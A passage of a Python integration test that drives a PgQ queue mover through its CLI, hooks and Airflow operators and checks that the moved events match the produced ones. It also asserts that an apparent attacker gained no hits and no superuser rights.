    with arena.step("the chunk path's registration"):
        report = _drain(src, chunk_dsn, consumer="chunk", target_queue="chunk_q", register_consumer=True)
        assert report.write_path == CHUNK_PATH
    with arena.step("pgq-queue-mover --register"):
        _cli(ini, "--register")
    src_hook, dst_hook = PgqHook("sp_src"), PgqHook("sp_dst")
    with arena.step("PgqRegisterConsumerOperator and PgqHook.register_consumer"):
        PgqRegisterConsumerOperator(task_id="sp_register", pgq_conn_id="sp_src", queue_name="src_q",
                                    consumer_name="operator").execute({})
        assert src_hook.register_consumer("src_q", "hooked") is True

    # 2. events: 40 ticked by the test, 30 left for the mover's own ticker
    events = simple_events(70, prefix="sp")
    produce(source, "src_q", events[:40])
    tick(source, "src_q")
    produce(source, "src_q", events[40:])

    # 3. the moves
    with arena.step("the core mover's drain with force_tick and its own ticker"):
        report = _drain(src, dst, DrainBounds(force_tick=True, run_ticker=True, tick_timeout=30), consumer="mover")
        assert report.events == 70 and report.write_path == COPY_PATH
    with arena.step("the keep_event_id drain"):
        assert _drain(src, mover.dsn(to_fresh), consumer="kept", keep_event_id=True).events == 70
    with arena.step("the chunk path (insert_event_chunk) with min_batch_events"):
        report = _drain(src, chunk_dsn, consumer="chunk", target_queue="chunk_q", chunk_size=9,
                        min_batch_events=1000)
        assert report.events == 70 and report.write_path == CHUNK_PATH
    with arena.step("pgq-queue-mover --once, --status, --install-pgq-ext"):
        _cli(ini, "--once")
        status = _cli(ini, "--status").stdout
        assert re.search(r"registered:\s+yes", status) and re.search(r"target mark:\s+\d+", status), status
        _cli(fresh_ini, "--install-pgq-ext", "--status")
    with arena.step("PgqQueueMoverOperator, PgqTickerOperator and PgqCreateQueueOperator"):
        PgqQueueMoverOperator(task_id="sp_move", source_conn_id="sp_src", target_conn_id="sp_dst",
                              source_queue="src_q", target_queue="op_q", consumer_name="operator",
                              force_tick=True, run_ticker=True).execute({})
        PgqTickerOperator(task_id="sp_tick", pgq_conn_id="sp_src", queue_name="src_q", force=True).execute({})
        PgqCreateQueueOperator(task_id="sp_create", pgq_conn_id="sp_dst", queue_name="op2_q",
                               queue_config={"ticker_max_count": "1"}).execute({})

    # 4. the hook, the repositioning, the waiting side
    mark = mark_of(target, "mover")
    with arena.step("PgqHook"):
        assert src_hook.get_queue_info("src_q").queue_name == "src_q"
        assert src_hook.get_consumer_info("src_q", "hooked") is not None
        assert (src_hook.get_lag("src_q", "hooked").pending_events or 0) > 0
        assert src_hook.count_events("src_q") == 70
        assert dst_hook.create_queue("hook_q") is True
        dst_hook.install_pgq_ext()
        options = MoverOptions(source_queue="src_q", target_queue="dst_q", consumer="mover")
        assert src_hook.status(dst_hook, options).target_mark == mark
        assert src_hook.rewind(dst_hook, options) == mark
        assert src_hook.reset(dst_hook, options) == mark  # the mark agrees: nothing is forgotten
    with arena.step("QueueMover.status/rewind/reset"):
        assert _mover_call(arena, "status").registered is True
        assert _mover_call(arena, "rewind") == mark
        assert _mover_call(arena, "reset") == mark
    with arena.step("the pending check and PgqQueueSensor.poke"):
        with closing(connect(src)) as conn:
            assert pending_status(conn, "src_q", "hooked").ready()
        poke = PgqQueueSensor(task_id="sp_wait", pgq_conn_id="sp_src", queue_name="src_q",
                              consumer_name="hooked").poke({})
        assert poke.is_done and poke.xcom_value["pending_events"] > 0
    with arena.step("PgqEventsTrigger and PgqQueueEventTrigger"):
        for trigger_class in (PgqEventsTrigger, PgqQueueEventTrigger):
            payload = asyncio.run(_first_event(trigger_class(
                pgq_conn_id="sp_src", queue_name="src_q", consumer_name="hooked", poll_interval=0.05)))
            assert payload["batch_available"] is True and payload["consumer_name"] == "hooked"

    # 5. nothing more was moved since the repositioning
    with arena.step("the last drain"):
        assert _drain(src, dst, consumer="mover").events == 0

    # the attacker got nothing, and the moved events are exactly the produced ones
    assert arena.hits() == arena.baseline
    assert not arena.attacker_is_superuser()
    produced = queue_events(source, "src_q")
    assert produced == Counter(tuple(e) for e in events)
    for server, queue in ((target, "dst_q"), (target, "cli_q"), (target, "chunk_q"), (target, "op_q"),
                          (fresh, "dst_q")):
        assert queue_events(server, queue) == produced, (server.dbname, queue)
    assert queue_events(fresh, "dst_q", with_ids=True) == queue_events(source, "src_q", with_ids=True)
